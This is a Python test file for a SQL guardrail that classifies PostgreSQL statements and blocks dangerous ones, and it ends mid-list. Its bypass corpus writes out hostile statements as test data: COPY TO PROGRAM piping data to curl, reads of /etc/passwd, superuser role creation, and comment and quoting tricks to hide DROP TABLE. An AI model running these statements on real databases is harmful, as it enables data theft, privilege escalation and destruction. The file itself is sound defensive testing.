"""pcigate.guardrails: classification with the real parser, rule matching, the bypass corpus, the cache."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pcigate.guardrails import Guardrails, StatementInfo, Verdict, classify, parse_relation_name
from pcigate.models import GuardrailRule, StatementClass


def _classes(sql: str, prepared: dict[str, frozenset[StatementClass]] | None = None) -> list[set[str]]:
    return [set(s.classes) for s in classify(sql, prepared)]


def _rule(*deny: StatementClass, relations: list[str] | None = None, name: str = "r",
          message: str | None = None) -> GuardrailRule:
    return GuardrailRule(name=name, deny=list(deny), relations=relations or [], message=message)


# --------------------------------------------------------------------------------------------------
# classification

@pytest.mark.parametrize(("sql", "expected"), [
    ("SELECT 1", {"read"}),
    ("SHOW work_mem", {"read"}),
    ("VALUES (1)", {"read"}),
    ("SELECT * FROM t FOR UPDATE", {"read"}),
    ("INSERT INTO t VALUES (1)", {"write"}),
    ("UPDATE t SET a = 1 WHERE id = 2", {"write"}),
    ("UPDATE t SET a = 1", {"write", "update_without_where"}),
    ("UPDATE t SET a = u.a FROM u", {"write", "update_without_where"}),
    ("DELETE FROM t WHERE id = 1", {"write"}),
    ("DELETE FROM t", {"write", "delete_without_where"}),
    ("DELETE FROM t WHERE true", {"write"}),  # documented: any WHERE clause counts
    ("DELETE FROM t WHERE CURRENT OF c", {"write"}),  # documented: CURRENT OF is a WHERE clause
    ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", {"write"}),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"read", "write", "delete_without_where"}),
    ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", {"read", "write", "update_without_where"}),
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", {"read", "write"}),
    ("EXPLAIN DELETE FROM t", {"read"}),
    ("EXPLAIN ANALYZE DELETE FROM t", {"read", "write", "delete_without_where"}),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", {"read", "write", "update_without_where"}),
    ("EXPLAIN (ANALYZE true) DELETE FROM t", {"read", "write", "delete_without_where"}),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", {"read"}),
    ("EXPLAIN (ANALYZE off) DELETE FROM t", {"read"}),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", {"read"}),
    ("CREATE TABLE x AS SELECT 1", {"ddl", "write", "read"}),
    ("CREATE MATERIALIZED VIEW mv AS SELECT 1", {"ddl", "write", "read"}),
    ("SELECT 1 INTO y FROM z", {"ddl", "write", "read"}),
    ("REFRESH MATERIALIZED VIEW mv", {"write"}),
    ("TRUNCATE t", {"truncate"}),
    ("TRUNCATE ONLY a, b CASCADE", {"truncate"}),
    ("TRUNCATE TABLE a RESTART IDENTITY", {"truncate"}),
    ("DROP DATABASE d", {"drop_database"}),
    ("DROP DATABASE IF EXISTS d WITH (FORCE)", {"drop_database"}),
    ("DROP SCHEMA s", {"drop_schema"}),
    ("DROP SCHEMA IF EXISTS a, b CASCADE", {"drop_schema"}),
    ("DROP TABLE t", {"drop_table"}),
    ("DROP TABLE IF EXISTS a, s.b CASCADE", {"drop_table"}),
    ("DROP VIEW v", {"drop_table"}),
    ("DROP MATERIALIZED VIEW v", {"drop_table"}),
    ("DROP FOREIGN TABLE f", {"drop_table"}),
    ("DROP INDEX i", {"drop_other"}),
    ("DROP FUNCTION f(int)", {"drop_other"}),
    ("DROP ROLE r", {"drop_other", "role_admin"}),
    ("DROP USER u", {"drop_other", "role_admin"}),
    ("DROP OWNED BY r", {"drop_other", "drop_table", "drop_schema"}),
    ("CREATE TABLE t (a int)", {"ddl"}),
    ("ALTER TABLE t ADD COLUMN b int", {"ddl"}),
    ("ALTER TABLE t DROP COLUMN b", {"ddl"}),
    ("COMMENT ON TABLE t IS 'x'", {"ddl"}),
    ("CREATE INDEX ON t (a)", {"ddl"}),
    ("VACUUM t", {"ddl"}),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", {"ddl"}),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", {"ddl"}),
    ("ALTER SYSTEM SET work_mem = '1GB'", {"alter_system"}),
    ("ALTER SYSTEM RESET ALL", {"alter_system"}),
    ("GRANT SELECT ON t TO u", {"grant"}),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO u", {"grant"}),
    ("GRANT admin TO u", {"grant"}),
    ("REVOKE SELECT ON t FROM u", {"revoke"}),
    ("REVOKE admin FROM u", {"revoke"}),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u", {"grant"}),
    ("CREATE ROLE r LOGIN", {"role_admin"}),
    ("CREATE USER u PASSWORD 'x'", {"role_admin"}),
    ("ALTER ROLE r SUPERUSER", {"role_admin"}),
    ("ALTER USER u SET search_path = x", {"role_admin"}),
    ("ALTER ROLE r RENAME TO s", {"role_admin"}),
    ("SET ROLE postgres", {"role_admin"}),
    ("SET LOCAL ROLE postgres", {"role_admin"}),
    ("RESET ROLE", {"role_admin"}),
    ("SET SESSION AUTHORIZATION postgres", {"role_admin"}),
    ("SELECT set_config('role', 'postgres', false)", {"read", "session", "role_admin"}),
    ("SELECT set_config(current_setting('x'), 'postgres', false)", {"read", "session", "role_admin"}),
    ("SELECT set_config('work_mem', '1MB', false)", {"read", "session"}),
    ("COPY t TO STDOUT", {"read"}),
    ("COPY t FROM STDIN", {"write"}),
    ("COPY (SELECT 1) TO STDOUT", {"read"}),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", {"read", "write", "delete_without_where"}),
    ("COPY t TO PROGRAM 'gzip > /tmp/x'", {"read", "copy_program"}),
    ("COPY t FROM PROGRAM 'curl http://x'", {"write", "copy_program"}),
    ("COPY t TO '/tmp/x'", {"read", "copy_file"}),
    ("COPY t FROM '/etc/passwd'", {"write", "copy_file"}),
    ("SELECT lo_import('/etc/passwd')", {"read", "copy_file"}),
    ("SELECT pg_read_file('/etc/passwd')", {"read", "copy_file"}),
    ("SELECT pg_terminate_backend(123)", {"read"}),  # documented: functions are not classified
    ("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", {"read"}),  # documented
    ("DO $$ BEGIN DELETE FROM t; END $$", {"do_block"}),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", {"do_block"}),
    ("CALL p(1)", {"call"}),
    ("PREPARE p AS DELETE FROM t", {"prepare", "write", "delete_without_where"}),
    ("PREPARE p (int) AS SELECT $1", {"prepare", "read"}),
    ("EXECUTE p", {"execute"}),
    ("DEALLOCATE p", {"session"}),
    ("BEGIN", {"transaction"}),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", {"transaction"}),
    ("COMMIT", {"transaction"}),
    ("ROLLBACK TO SAVEPOINT s", {"transaction"}),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", {"transaction"}),
    ("SET work_mem = '1MB'", {"session"}),
    ("RESET ALL", {"session"}),
    ("DISCARD ALL", {"session"}),
    ("LISTEN c", {"session"}),
    ("DECLARE c CURSOR FOR SELECT 1", {"read"}),
    ("FETCH 10 FROM c", {"read"}),
    ("SELEC 1", {"unparseable"}),
    ("DROP TABLE", {"unparseable"}),
])
def test_classes(sql: str, expected: set[str]) -> None:
    assert _classes(sql) == [expected]


def test_multi_statement_one_info_each() -> None:
    infos = classify("SELECT 1; DROP TABLE t;\n\tTRUNCATE u ; ")
    assert [set(i.classes) for i in infos] == [{"read"}, {"drop_table"}, {"truncate"}]
    assert [i.text for i in infos] == ["SELECT 1", "DROP TABLE t", "TRUNCATE u"]


def test_empty_and_comment_only_have_no_statements() -> None:
    assert classify("") == []
    assert classify(" ;; -- nothing\n/* here */") == []


def test_unparseable_multi_statement_is_one_info() -> None:
    assert _classes("SELECT 1; SELEC 2; DROP TABLE t") == [{"unparseable"}]


def test_nul_and_surrogates_unparseable() -> None:
    assert _classes("SELECT 1\x00; DROP TABLE t") == [{"unparseable"}]
    assert _classes("SELECT '\ud800'") == [{"unparseable"}]


def test_every_class_in_the_contract_is_produced() -> None:
    from typing import get_args
    produced: set[str] = set()
    for sql in ["SELECT 1", "DELETE FROM t", "UPDATE t SET a=1", "TRUNCATE t", "DROP DATABASE d",
                "DROP SCHEMA s", "DROP TABLE t", "DROP INDEX i", "CREATE TABLE t()", "ALTER SYSTEM SET a=1",
                "GRANT r TO u", "REVOKE r FROM u", "SET ROLE r", "COPY t TO PROGRAM 'x'", "COPY t TO '/x'",
                "DO $$ $$", "CALL p()", "PREPARE p AS SELECT 1", "EXECUTE p", "BEGIN", "SET a = 1", "SELEC"]:
        for info in classify(sql):
            produced |= info.classes
    assert produced == set(get_args(StatementClass))


# --------------------------------------------------------------------------------------------------
# relations

@pytest.mark.parametrize(("sql", "expected"), [
    ("SELECT * FROM Customers", {"customers"}),
    ('SELECT * FROM "Customers"', {"Customers"}),
    ('SELECT * FROM "public"."customers"', {"customers", "public.customers"}),
    ("SELECT * FROM PUBLIC.CUSTOMERS", {"customers", "public.customers"}),
    ('DELETE FROM U&"cust\\006Fmers"', {"customers"}),
    ("DROP TABLE IF EXISTS a, s.b CASCADE", {"a", "b", "s.b"}),
    ("TRUNCATE ONLY a, b", {"a", "b"}),
    ("DROP SCHEMA s CASCADE", {"s.*"}),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO u", {"public.*"}),
    ("INSERT INTO report SELECT * FROM customers", {"report", "customers"}),
    ("SELECT 'DROP TABLE customers'", set()),
])
def test_relations(sql: str, expected: set[str]) -> None:
    (info,) = classify(sql)
    assert set(info.relations) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("customers", (None, "customers")),
    ("Customers", (None, "customers")),
    ('"Customers"', (None, "Customers")),
    ("public.customers", ("public", "customers")),
    ('"Public"."a.b"', ("Public", "a.b")),
    ('"a""b"', (None, 'a"b')),
])
def test_parse_relation_name(text: str, expected: tuple[str | None, str]) -> None:
    assert parse_relation_name(text) == expected


def test_relation_scoped_rules() -> None:
    g = Guardrails([_rule("write", "drop_table", relations=["public.customers"])])
    assert not g.check("DELETE FROM customers WHERE id = 1").allowed  # unqualified: search_path unknown
    assert not g.check("DELETE FROM public.customers WHERE id = 1").allowed
    assert not g.check('DELETE FROM "public"."customers" WHERE id = 1').allowed
    assert g.check("DELETE FROM other.customers WHERE id = 1").allowed
    assert g.check("DELETE FROM orders WHERE id = 1").allowed
    assert g.check('DELETE FROM "Customers" WHERE id = 1').allowed  # a different relation
    # the write's target matters, not what it reads
    assert g.check("INSERT INTO report SELECT * FROM customers").allowed
    sql = "WITH x AS (DELETE FROM customers RETURNING *) INSERT INTO report SELECT * FROM x"
    assert not g.check(sql).allowed
    assert not g.check("DROP TABLE orders, public.customers").allowed
    assert not g.check("DROP OWNED BY someone").allowed  # may drop anything
    g2 = Guardrails([_rule("drop_table", "drop_schema", relations=["customers"])])
    assert not g2.check("DROP TABLE other.customers").allowed  # unqualified rule: any schema
    assert not g2.check("DROP SCHEMA public CASCADE").allowed  # schema-wide: may hold customers
    g3 = Guardrails([_rule("grant", relations=["public.customers"])])
    assert not g3.check("GRANT SELECT ON ALL TABLES IN SCHEMA public TO u").allowed
    assert g3.check("GRANT SELECT ON ALL TABLES IN SCHEMA other TO u").allowed


def test_relationless_classes_ignore_rule_relations() -> None:
    g = Guardrails([_rule("do_block", "call", "execute", relations=["customers"])])
    assert not g.check("DO $$ BEGIN NULL; END $$").allowed
    assert not g.check("CALL p()").allowed
    assert not g.check("EXECUTE unknown_one").allowed


# --------------------------------------------------------------------------------------------------
# PREPARE / EXECUTE

def test_execute_resolved_from_map() -> None:
    prepared: dict[str, frozenset[StatementClass]] = {"d": frozenset({"write", "delete_without_where"})}
    assert _classes("EXECUTE d", prepared) == [{"execute", "write", "delete_without_where"}]
    assert _classes("EXECUTE other", prepared) == [{"execute"}]
    g = Guardrails([_rule("delete_without_where")])
    assert not g.check("EXECUTE d", prepared).allowed
    assert g.check("EXECUTE d").allowed  # unknown name: only `execute`
    assert g.check("EXECUTE other", prepared).allowed


def test_execute_resolved_from_info_keeps_relations() -> None:
    (prep,) = classify("PREPARE d AS DELETE FROM orders")
    g = Guardrails([_rule("write", relations=["customers"])])
    assert g.check("EXECUTE d", {"d": prep.as_prepared()}).allowed
    # classes only: relations unknown, so a relation-scoped rule matches (fail closed)
    assert not g.check("EXECUTE d", {"d": frozenset({"write"})}).allowed


def test_prepare_then_execute_in_one_string() -> None:
    infos = classify("PREPARE p AS DELETE FROM t; EXECUTE p")
    assert [set(i.classes) for i in infos] == [
        {"prepare", "write", "delete_without_where"}, {"execute", "write", "delete_without_where"}]
    assert infos[0].prepared_name == "p"
    assert infos[1].execute_names == ("p",)
    # DEALLOCATE in between forgets it; DEALLOCATE ALL forgets the caller's map too
    assert _classes("PREPARE p AS DELETE FROM t; DEALLOCATE p; EXECUTE p")[2] == {"execute"}
    assert _classes("DEALLOCATE ALL; EXECUTE d", {"d": frozenset({"write"})})[1] == {"execute"}


def test_execute_nested() -> None:
    prepared: dict[str, frozenset[StatementClass]] = {"d": frozenset({"write", "delete_without_where"})}
    assert "delete_without_where" in _classes("EXPLAIN ANALYZE EXECUTE d", prepared)[0]
    assert "delete_without_where" not in _classes("EXPLAIN EXECUTE d", prepared)[0]
    assert "delete_without_where" in _classes("CREATE TABLE x AS EXECUTE d", prepared)[0]


def test_cached_verdict_not_reused_across_prepared_maps() -> None:
    g = Guardrails([_rule("truncate")])
    assert g.check("EXECUTE q").allowed
    assert not g.check("EXECUTE q", {"q": frozenset({"truncate"})}).allowed
    assert g.check("EXECUTE q").allowed


# --------------------------------------------------------------------------------------------------
# the bypass corpus: (rule class, statement); blocked with the rule on, allowed with it off

BYPASS: list[tuple[StatementClass, str]] = [
    # drop_table through comments, case, whitespace, quoting, multi-statement strings
    ("drop_table", "DROP TABLE customers"),
    ("drop_table", "drop table customers"),
    ("drop_table", "DrOp TaBlE customers"),
    ("drop_table", "DROP/**/TABLE/**/customers"),
    ("drop_table", "DROP /* a /* nested */ comment */ TABLE customers"),
    ("drop_table", "DROP -- comment\nTABLE customers"),
    ("drop_table", "-- leading comment\nDROP TABLE customers"),
    ("drop_table", "/* leading */DROP TABLE customers"),
    ("drop_table", "  \n\t DROP\n\tTABLE\r\n  customers \t;"),
    ("drop_table", 'DROP TABLE "Customers"'),
    ("drop_table", 'DROP TABLE "public"."customers"'),
    ("drop_table", 'DROP TABLE U&"cust\\006Fmers"'),
    ("drop_table", 'DROP TABLE U&"!0063ustomers" UESCAPE \'!\''),
    ("drop_table", "DROP TABLE IF EXISTS customers CASCADE"),
    ("drop_table", "DROP TABLE a, b, customers"),
    ("drop_table", "DROP VIEW v"),
    ("drop_table", "SELECT 1; DROP TABLE customers"),
    ("drop_table", "SELECT 1;DROP TABLE customers;SELECT 2"),
    ("drop_table", "SELECT 'a;b'; DROP TABLE customers"),
    ("drop_table", "SELECT $$;$$; DROP TABLE customers"),
    ("drop_table", "SELECT E'it\\'s; here'; DROP TABLE customers"),
    ("drop_table", "SELECT 'it''s'; DROP TABLE customers"),
    ("drop_table", "SELECT 1 /* ; */; DROP TABLE customers -- ; trailing"),
    ("drop_table", "SELECT $tag$ $$ ; $tag$; DROP TABLE customers"),
    ("drop_schema", "DROP SCHEMA public CASCADE"),
    ("drop_schema", "drop schema if exists a, b"),
    ("drop_database", "DROP DATABASE prod"),
    ("drop_database", "DROP DATABASE IF EXISTS prod WITH (FORCE)"),
    ("drop_database", "/* x */ drop\tdatabase\n\"Prod\""),
    ("truncate", "TRUNCATE customers"),
    ("truncate", "TRUNCATE ONLY customers"),
    ("truncate", "truncate table a, b RESTART IDENTITY CASCADE"),
    ("truncate", "SELECT 1; TRUNCATE ONLY customers"),
    ("delete_without_where", "DELETE FROM customers"),
    ("delete_without_where", "delete from customers -- WHERE id = 1"),
    ("delete_without_where", "DELETE FROM customers /* WHERE id = 1 */"),
    ("delete_without_where", "WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d"),
    ("delete_without_where", "with d as (delete from customers returning 1) select 1"),
    ("delete_without_where",
     "WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING *) INSERT INTO x SELECT * FROM d"),
    ("delete_without_where", "EXPLAIN ANALYZE DELETE FROM customers"),
    ("delete_without_where", "EXPLAIN (ANALYZE, COSTS OFF) DELETE FROM customers"),
    ("delete_without_where", "explain (analyze on) delete from customers"),
    ("delete_without_where", "PREPARE p AS DELETE FROM customers"),
    ("delete_without_where", "PREPARE p AS DELETE FROM customers; EXECUTE p"),
    ("delete_without_where", "COPY (DELETE FROM customers RETURNING *) TO STDOUT"),
    ("delete_without_where", "SELECT 1; DELETE FROM customers"),
    ("update_without_where", "UPDATE customers SET pan = NULL"),
    ("update_without_where", "UPDATE customers SET pan = NULL -- WHERE id = 1"),
    ("update_without_where", "WITH u AS (UPDATE customers SET pan = NULL RETURNING 1) SELECT 1"),
    ("write", "INSERT INTO customers VALUES (1)"),
    ("write", "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d"),
    ("write", "EXPLAIN ANALYZE INSERT INTO customers VALUES (1)"),
    ("write", "SELECT * INTO copy_of FROM customers"),
    ("write", "CREATE TABLE copy_of AS SELECT * FROM customers"),
    ("write", "COPY customers FROM STDIN"),
    ("write", "MERGE INTO customers c USING s ON c.id = s.id WHEN MATCHED THEN DELETE"),
    ("alter_system", "ALTER SYSTEM SET log_statement = 'none'"),
    ("alter_system", "alter /* x */ system reset all"),
    ("grant", "GRANT ALL ON customers TO public"),
    ("grant", "GRANT pg_read_server_files TO me"),
    ("grant", "grant\nall\non\nall tables in schema public to me"),
    ("revoke", "REVOKE ALL ON customers FROM auditor"),
    ("role_admin", "CREATE ROLE evil SUPERUSER LOGIN"),
    ("role_admin", "ALTER USER me WITH SUPERUSER"),
    ("role_admin", "SET ROLE postgres"),
    ("role_admin", "set local role postgres"),
    ("role_admin", "SET SESSION AUTHORIZATION postgres"),
    ("role_admin", "SELECT set_config('role', 'postgres', false)"),
    ("role_admin", "SELECT 1; SET ROLE postgres"),
    ("copy_program", "COPY customers TO PROGRAM 'sh -c \"curl -d @- http://x\"'"),
    ("copy_program", "copy (select 1) to program 'sh -c id'"),
    ("copy_program", "COPY t FROM PROGRAM $$sh -c 'id'$$"),
    ("copy_program", "SELECT 1; COPY t TO PROGRAM 'id'"),
    ("copy_file", "COPY customers TO '/tmp/cards.csv'"),
    ("copy_file", "COPY t FROM E'/etc/passwd'"),
    ("copy_file", "SELECT lo_import('/etc/passwd')"),
    ("copy_file", "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
    ("do_block", "DO $$ BEGIN RAISE NOTICE 'x'; END $$"),
    ("do_block", "DO $x$ BEGIN EXECUTE 'DROP TABLE customers'; END $x$"),
    ("do_block", "do language plpgsql $body$ begin null; end $body$"),
    ("do_block", "SELECT 1; DO $$ BEGIN NULL; END $$"),
    ("call", "CALL purge_customers()"),
    ("call", "call public.purge(1)"),
    ("prepare", "PREPARE p AS SELECT 1"),
    ("execute", "EXECUTE p"),
    ("execute", "EXECUTE p(1, 'x')"),
    ("transaction", "BEGIN"),
    ("session", "SET statement_timeout = 0"),
    ("ddl", "CREATE TABLE t (a int)"),
    ("ddl", "ALTER TABLE customers DROP COLUMN pan"),
    ("drop_other", "DROP INDEX customers_pkey"),
    ("drop_other", "DROP FUNCTION f()"),
]


@pytest.mark.parametrize(("cls", "sql"), BYPASS)
def test_bypass_corpus_blocked_when_on_allowed_when_off(cls: StatementClass, sql: str) -> None:
    on = Guardrails([_rule(cls, name="the-rule")])
    verdict = on.check(sql)
    assert not verdict.allowed, [set(i.classes) for i in verdict.statements]
    assert verdict.rule == "the-rule"
    assert cls.replace("_", " ") in verdict.message
    # same statement, the rule off: another rule is on (so parsing happens), this class is not denied
    other: StatementClass = "alter_system" if cls != "alter_system" else "truncate"
    off = Guardrails([_rule(other, name="other")])
    assert off.check(sql).allowed
    assert Guardrails([]).check(sql).allowed


# false positives: these must be allowed while every dangerous class is denied
DANGER: list[StatementClass] = [
    "write", "delete_without_where", "update_without_where", "truncate", "drop_database", "drop_schema",
    "drop_table", "drop_other", "ddl", "alter_system", "grant", "revoke", "role_admin", "copy_program",
    "copy_file", "do_block", "call", "prepare", "execute", "session",
]

ALLOWED = [
    "SELECT 'DROP TABLE customers'",
    "SELECT 'x; DROP TABLE customers'",
    "SELECT $$DROP TABLE customers$$",
    "SELECT $x$ '; DROP TABLE customers; -- $x$",
    "SELECT E'\\'; DROP TABLE customers; --'",
    "SELECT U&'\\0044ROP TABLE customers'",
    "SELECT 1 AS \"drop\", 2 AS \"truncate\"",
    "SELECT \"drop table customers\" FROM t",
    "SELECT * FROM drop_log WHERE action = 'DROP TABLE'",
    "SELECT 1 -- ; DROP TABLE customers",
    "SELECT 1 /* ; DROP TABLE customers */",
    "SELECT 1 /* nested /* ; DROP TABLE customers */ still comment */",
    "SELECT * FROM customers FOR UPDATE",
    "SELECT * FROM customers WHERE note = 'DELETE FROM customers'",
    "EXPLAIN DELETE FROM customers",
    "EXPLAIN (ANALYZE false) DELETE FROM customers",
    "SHOW search_path",
    "WITH x AS (SELECT 1) SELECT * FROM x",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE false",
    "",
    "-- just a comment",
]


@pytest.mark.parametrize("sql", ALLOWED)
def test_no_false_positives(sql: str) -> None:
    g = Guardrails([_rule(*DANGER)])
    v = g.check(sql)
    assert v.allowed, (v.message, [set(i.classes) for i in v.statements])


def test_delete_where_true_is_allowed_documented() -> None:
    g = Guardrails([_rule("delete_without_where")])
    assert not g.check("DELETE FROM t").allowed
    assert g.check("DELETE FROM t WHERE true").allowed
    assert g.check("DELETE FROM t WHERE 1 = 1").allowed


# --------------------------------------------------------------------------------------------------
# verdicts, fail closed, fast path

def test_unparseable_denied_when_rules_on() -> None:
    g = Guardrails([_rule("drop_table")])
    v = g.check("SELEC 1")
    assert not v.allowed
    assert v.rule is None
    assert "could not be parsed" in v.message
    assert "syntax" not in v.message  # no parser internals to the client
    assert not g.check("SELECT 1; DROP TABLE").allowed
    assert not g.check("SELECT 1\x00DROP TABLE t").allowed
    assert Guardrails([]).check("SELEC 1").allowed


def test_rule_naming_unparseable_gives_its_message() -> None:
    g = Guardrails([_rule("unparseable", name="strict", message="Only valid SQL, please.")])
    v = g.check("SELEC 1")
    assert (v.allowed, v.rule, v.message) == (False, "strict", "Only valid SQL, please.")


def test_message_rule_or_default() -> None:
    g = Guardrails([_rule("truncate", name="no-truncate", message="TRUNCATE is not allowed on prod.")])
    assert g.check("TRUNCATE t").message == "TRUNCATE is not allowed on prod."
    g2 = Guardrails([_rule("truncate", name="no-truncate")])
    msg = g2.check("TRUNCATE t").message
    assert "no-truncate" in msg
    assert "truncate" in msg


def test_first_matching_rule_wins_and_statements_reported() -> None:
    g = Guardrails([_rule("truncate", name="a"), _rule("drop_table", name="b")])
    v = g.check("SELECT 1; DROP TABLE t; TRUNCATE t")
    assert (v.allowed, v.rule) == (False, "b")
    assert len(v.statements) == 3


def test_no_rules_fast_path() -> None:
    g = Guardrails([])
    assert not g.enabled
    v = g.check("DROP TABLE t")
    assert v == Verdict(True, None, "", [])
    assert g.cache_info().currsize == 0


def test_cache_hits_and_bound() -> None:
    g = Guardrails([_rule("drop_table")], cache_size=2)
    for _ in range(5):
        assert g.check("SELECT 1").allowed
    info = g.cache_info()
    assert (info.hits, info.misses) == (4, 1)
    g.check("SELECT 2")
    g.check("SELECT 3")
    assert g.cache_info().currsize == 2
    assert Guardrails([_rule("drop_table")], cache_size=0).check("DROP TABLE t").rule == "r"


def test_long_text_not_cached() -> None:
    g = Guardrails([_rule("drop_table")])
    sql = "SELECT " + ", ".join(["1"] * 40000) + "; DROP TABLE t"
    assert len(sql) > g.max_cached_len
    assert not g.check(sql).allowed
    assert g.cache_info().currsize == 0


@pytest.mark.parametrize("depth", [10, 500, 3000])
def test_deep_nesting_never_raises(depth: int) -> None:
    g = Guardrails([_rule("drop_table")])
    for sql in ["SELECT " + "(" * depth + "1" + ")" * depth,
                "SELECT " + "(SELECT " * depth + "1" + ")" * depth,
                "SELECT " + "-" * depth + "1"]:
        v = g.check(sql)
        assert v.allowed or "could not be parsed" in v.message
    v = g.check("SELECT " + "(SELECT " * depth + "1" + ")" * depth + "; DROP TABLE t")
    assert not v.allowed


# --------------------------------------------------------------------------------------------------
# Hypothesis

ALL_RULES = [_rule(*DANGER, name="all"), _rule("drop_table", relations=["customers"], name="scoped")]

SQL_PIECES = st.sampled_from([
    "SELECT", "DROP", "TABLE", "customers", "DELETE", "FROM", "WHERE", "true", ";", "'", '"', "$$", "$x$",
    "--", "/*", "*/", "(", ")", "WITH", "d", "AS", "RETURNING", "*", "EXPLAIN", "ANALYZE", "PREPARE",
    "EXECUTE", "p", "COPY", "TO", "PROGRAM", "E'", "U&\"", "\\", "\n", "\t", " ", "\x00", "1", "TRUNCATE",
    "ONLY", "DO", "CALL",
])
SQLISH = st.lists(SQL_PIECES, max_size=25).map(" ".join)
TEXT = st.one_of(st.text(max_size=200), SQLISH)


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_check_never_raises_and_is_deterministic(sql: str) -> None:
    for rule in ALL_RULES:
        cached = Guardrails([rule])
        first = cached.check(sql)
        second = cached.check(sql)  # from the cache
        uncached = Guardrails([rule], cache_size=0).check(sql)
        assert first == second == uncached
        assert isinstance(first.message, str)
        if "\x00" in sql:
            assert not first.allowed
        if not first.allowed:
            assert first.message
    infos = classify(sql)
    assert infos == classify(sql)
    for info in infos:
        assert isinstance(info, StatementInfo)
        assert info.classes


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=50), st.sampled_from([s for _, s in BYPASS]))
def test_prefixed_comment_or_string_does_not_hide_statement(junk: str, sql: str) -> None:
    # the dangerous statement after a harmless one whose literal carries arbitrary text
    literal = "$q$" + junk.replace("$q$", "") + "$q$"
    prefixed = f"SELECT {literal}; {sql}"
    if "\x00" in junk:
        return
    base = {c for i in classify(sql) for c in i.classes}
    got = {c for i in classify(prefixed) for c in i.classes}
    assert base <= got


# --------------------------------------------------------------------------------------------------
# The template cache: texts that differ only in integer constants


def test_template_answers_texts_that_differ_in_integers() -> None:
    g = Guardrails([_rule("drop_table")])
    for aid in (523423, 17, 99, 123456789, 1):
        v = g.check(f"SELECT abalance FROM pgbench_accounts WHERE aid = {aid};")
        assert v.allowed
        assert [s.text for s in v.statements] == [f"SELECT abalance FROM pgbench_accounts WHERE aid = {aid}"]
    info = g.cache_info()
    assert (info.misses, info.template_hits, info.templates) == (2, 3, 1)  # built on the second sighting


def test_template_keeps_denials_and_recuts_every_statement_text() -> None:
    g = Guardrails([_rule("drop_table", relations=["t7"])])
    texts = ["SELECT 1 ;  DROP TABLE t7; SELECT 22", "SELECT 4444 ;  DROP TABLE t7; SELECT 5",
             "SELECT 987654321 ;  DROP TABLE t7; SELECT 0"]
    for sql in texts:
        v = g.check(sql)
        assert not v.allowed
        assert v.rule == "r"
        assert [s.text for s in v.statements] == [p.strip() for p in sql.split(";")]
    assert g.cache_info().template_hits == 1


def test_template_never_covers_other_identifiers_or_big_numbers() -> None:
    g = Guardrails([_rule("drop_table", relations=["t2"]), _rule("delete_without_where", name="d")])
    for _ in range(2):
        assert g.check("SELECT * FROM t1 WHERE a = 5; DROP TABLE t1").allowed
    # the same shape once digits are normalised, but another table: classified, and denied
    assert g.check("SELECT * FROM t2 WHERE a = 6; DROP TABLE t2").rule == "r"
    # more than 9 digits is not an int4 constant to the scanner: classified, not answered by the template
    before = g.cache_info().misses
    assert g.check("SELECT * FROM t1 WHERE a = 12345678901; DROP TABLE t1").allowed
    assert g.cache_info().misses == before + 1


def test_constants_that_decide_a_class_are_never_templated() -> None:
    g = Guardrails([_rule("delete_without_where")])
    for _ in range(3):
        assert g.check("EXPLAIN (ANALYZE 0) DELETE FROM t").allowed  # not run: read only
    assert not g.check("EXPLAIN (ANALYZE 1) DELETE FROM t").allowed  # runs the DELETE
    assert g.cache_info().templates == 0
    role = Guardrails([_rule("role_admin")])
    for _ in range(3):
        assert role.check("SELECT set_config('work_mem', '64', false)").allowed
    assert not role.check("SELECT set_config('role', '64', false)").allowed


NUMBERS = st.sampled_from(["0", "7", "42", "999999999", "1000000000", "12345678901234567890", "007"])


@settings(max_examples=300, deadline=None)
@given(SQLISH.map(lambda s: s.replace("1", "1 2 33")), st.lists(NUMBERS, min_size=1, max_size=6))
def test_template_cache_agrees_with_the_parser(sql: str, numbers: list[str]) -> None:
    """Whatever the cache answers equals a fresh classification, statement texts included."""
    import re

    cached = Guardrails(ALL_RULES)
    variants = [sql, sql]
    for k in range(len(numbers)):
        it = iter(numbers[k:] + numbers[:k])
        variants.append(re.sub(r"[0-9]+", lambda _m: next(it, "5"), sql))
    for text in variants:
        assert cached.check(text) == Guardrails(ALL_RULES, cache_size=0).check(text)


SHAPES = st.sampled_from([
    "SELECT {}", "DELETE FROM t WHERE a = {}", "DELETE FROM t{}", "SELECT * FROM t LIMIT {}",
    "EXPLAIN (ANALYZE {}) DELETE FROM t", "FETCH {} FROM c", "SELECT {}; DROP TABLE t{}", "SELECT '{}', {}",
    "SELECT $1, {}", "SELECT {}.5", "SELECT 1e{}", "SELECT {}::int", "VALUES ({}), ({})",
    "SELECT x{} FROM t WHERE y = -{}", "/* {} */ SELECT {} -- {}", "SELECT $${}$$, {}", "SELECT 0x{}",
    "SELECT 1_{}", "SELECT set_config('role{}', 'x', false)", "PREPARE p{} AS DELETE FROM t",
    "COPY t FROM PROGRAM 'cat {}'", "SELECT E'\\{}', {}", 'SELECT "{}" FROM t', "SELECT {}a",
